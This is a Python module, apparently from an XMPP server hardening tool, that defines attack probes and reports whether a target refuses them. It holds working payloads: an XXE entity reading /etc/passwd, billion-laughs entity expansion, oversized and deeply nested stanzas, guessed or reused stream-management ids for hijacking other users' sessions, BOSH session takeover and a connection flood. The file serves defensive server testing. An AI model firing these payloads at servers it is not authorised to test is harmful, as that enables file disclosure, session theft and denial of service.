"""Ways in by breaking things: input that is too large or no XML, sessions of others, too many connections."""

from __future__ import annotations

import base64
import secrets
from functools import partial
from typing import TYPE_CHECKING
from xml.etree.ElementTree import Element

from hardener.proof.attack.record import Judgement, Target, refused, succeeded
from hardener.proof.attack.session import Scene, Way, plain_probe
from hardener.proof.xmpp import sasl, stanzas
from hardener.proof.xmpp.client import Client
from hardener.proof.xmpp.streams import BoshStream, Closed, WebSocketStream

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

_SM = "urn:xmpp:sm:3"
_HUGE = 1 << 20  # bytes: four times the largest stanza that Prosody takes, by default
_DEEP = 150_000  # elements in each other, seven bytes each


def ways(_target: Target) -> Iterator[Way]:
    """Yield all of them."""
    for name in _broken(""):
        yield Way("broken input", name, partial(_tolerated, name=name))
    for name in _frames():
        yield Way("broken input", name, partial(_frame_tolerated, name=name), (WebSocketStream.name,))
    for name in ("huge login", "huge attribute", "deep nesting"):
        yield Way("huge input", name, partial(_tolerated_size, name=name))
    yield Way("huge input", "huge message", _huge_message, needs="account")
    websocket = (WebSocketStream.name,)
    for name in _previds():
        yield Way("sessions of others", f"resume {name}", partial(_resume_guess, name=name), websocket)
    yield Way("sessions of others", "resume a real one without login", _resume_real, websocket, needs="account")
    yield Way("sessions of others", "resume a guessed one after login", _resume_logged_in, websocket, needs="account")
    yield Way("sessions of others", "take over a BOSH session", _bosh_takeover, (BoshStream.name,))
    yield Way("many connections", "a crowd that does not log in", _crowd)


# --- broken input


def _broken(mark: str) -> dict[str, str]:
    """Return texts that are not XMPP, by name."""
    entity = f"<!DOCTYPE auth [<!ENTITY m '{mark or 'x'}'>]>"
    nested = "".join(f"<!ENTITY l{n} '&l{n - 1};&l{n - 1};&l{n - 1};&l{n - 1};'>" for n in range(1, 12))
    return {
        "not well-formed": "<iq type='get'><ping></iq>",
        "never closed": "<iq xmlns='jabber:client' type='get' id='a'",
        "document type": f"{entity}{plain_probe(mark)}",
        "entities that grow": f"<!DOCTYPE a [<!ENTITY l0 'ha'>{nested}]><iq xmlns='jabber:client' id='&l11;'/>",
        "external entity": "<!DOCTYPE a [<!ENTITY f SYSTEM 'file:///etc/passwd'>]><a xmlns='jabber:client'>&f;</a>",
        "processing instruction": f"<?xml-stylesheet href='x'?>{plain_probe(mark)}",
        "comment": f"<!-- x -->{plain_probe(mark)}",
        "unbound prefix": "<evil:iq type='get' id='a'><evil:ping/></evil:iq>",
        "invalid UTF-8": "<iq xmlns='jabber:client' type='get' id='\udcc0\udcaf'/>",
        "control characters": "<iq xmlns='jabber:client' type='get' id='\x01\x08'/>",
    }


def _frames() -> dict[str, tuple[int, bytes]]:
    """Return frames that RFC 7395 does not allow, by name: opcode and payload."""
    login = plain_probe("frame").encode()
    return {"binary frame": (2, login), "reserved frame": (5, login), "frame without XML": (1, b"PING\r\n")}


def _still_there(scene: Scene, client: Client) -> Judgement:
    """Return whether the stream continues as if nothing had been: then the broken input was accepted."""
    client.stream.send(plain_probe(scene.mark))
    element = client.wait("failure", "success", "challenge")
    return succeeded(f"the server takes it and continues: {stanzas.local(element)}")


def _tolerated(scene: Scene, name: str) -> Judgement:
    guest = scene.guest()
    guest.stream.send(_broken(scene.mark)[name])
    return _still_there(scene, guest)


def _frame_tolerated(scene: Scene, name: str) -> Judgement:
    stream = scene.frames()
    guest = Client(stream, stream.open(scene.target.domain), scene.target.domain)
    opcode, data = _frames()[name]
    stream.send_raw_frame(opcode, data, shown=f"(opcode {opcode}) {data.decode()}")
    return _still_there(scene, guest)


# --- huge input


def _tolerated_size(scene: Scene, name: str) -> Judgement:
    texts: dict[str, Callable[[], str]] = {
        "huge login": lambda: sasl.auth("PLAIN", sasl.plain("x" * _HUGE, "wrong")),
        "huge attribute": lambda: f"<auth xmlns='{sasl.SASL}' mechanism='PLAIN' x='{'x' * _HUGE}'/>",
        "deep nesting": lambda: f"<auth xmlns='{sasl.SASL}' mechanism='PLAIN'>{'<a>' * _DEEP}{'</a>' * _DEEP}</auth>",
    }
    guest = scene.guest()
    guest.stream.send(texts[name]())
    return _still_there(scene, guest)


def _huge_message(scene: Scene) -> Judgement:
    receiver, sender = scene.client(), scene.client()
    receiver.stream.send("<presence xmlns='jabber:client'/>")
    receiver.until_ping()
    body = "x" * _HUGE
    sender.stream.send(f"<message xmlns='jabber:client' to='{receiver.jid}'><body>{body}</body></message>")
    sender.until_ping()
    if any(stanzas.local(stanza) == "message" for stanza in receiver.until_ping()):
        return succeeded(f"a message of {_HUGE} bytes is delivered")
    return refused("the message does not arrive")


# --- sessions of others


def _previds() -> dict[str, str]:
    """Return ids of stream management that a server without good randomness might have given out, by name."""
    return {
        "an id of nothing": "",
        "id 1": "1",
        "a random id": secrets.token_urlsafe(18),
        "a name as id": "focus",
        "an id as Prosody makes them": base64.b64encode(b"focus@auth\0").decode(),
    }


def _resume(client: Client, previd: str) -> Judgement:
    client.stream.send(f"<resume xmlns='{_SM}' previd='{previd}' h='0'/>")
    element = client.wait("resumed", "failed")
    if stanzas.local(element) == "resumed":
        return succeeded("the session is taken over")
    return refused(stanzas.condition(element) or "failed")


def _resume_guess(scene: Scene, name: str) -> Judgement:
    return _resume(scene.guest(), _previds()[name])


def _resume_real(scene: Scene) -> Judgement:
    owner = scene.client()
    owner.stream.send(f"<enable xmlns='{_SM}' resume='true'/>")
    enabled = owner.wait("enabled", "failed")
    if stanzas.local(enabled) == "failed" or not enabled.get("id"):
        return refused("sessions cannot be resumed here at all")
    return _resume(scene.guest(), enabled.get("id", ""))


def _resume_logged_in(scene: Scene) -> Judgement:
    stream = scene.stream(f"token={scene.account.token}" if scene.account.token else "")
    client = Client(stream, stream.open(scene.target.domain), scene.target.domain)
    scene.log_in(client, scene.account)
    if not any(_SM in feature.tag for feature in client.features):
        return refused("sessions cannot be resumed here at all")
    return _resume(client, secrets.token_urlsafe(18))


def _bosh_takeover(scene: Scene) -> Judgement:
    """Return a session id that was never issued."""
    stream = scene.stream()
    if not isinstance(stream, BoshStream):
        raise TypeError(stream.name)
    stream.pretend(secrets.token_hex(18))
    return _still_there(scene, Client(stream, Element("features"), scene.target.domain))


# --- many connections


def _crowd(scene: Scene) -> Judgement:
    """Open many streams. The server may refuse them, but must not refuse all clients afterwards."""
    came = 0
    for _number in range(scene.target.crowd):
        try:
            scene.guest()
        except Closed:
            break
        came += 1
        scene.more_time()
    scene.close()
    try:
        scene.guest()
    except (Closed, OSError):
        return succeeded(f"after {came} streams without login the server does not answer any more")
    return refused(f"{came} of {scene.target.crowd} streams without login opened; the server continues answering")
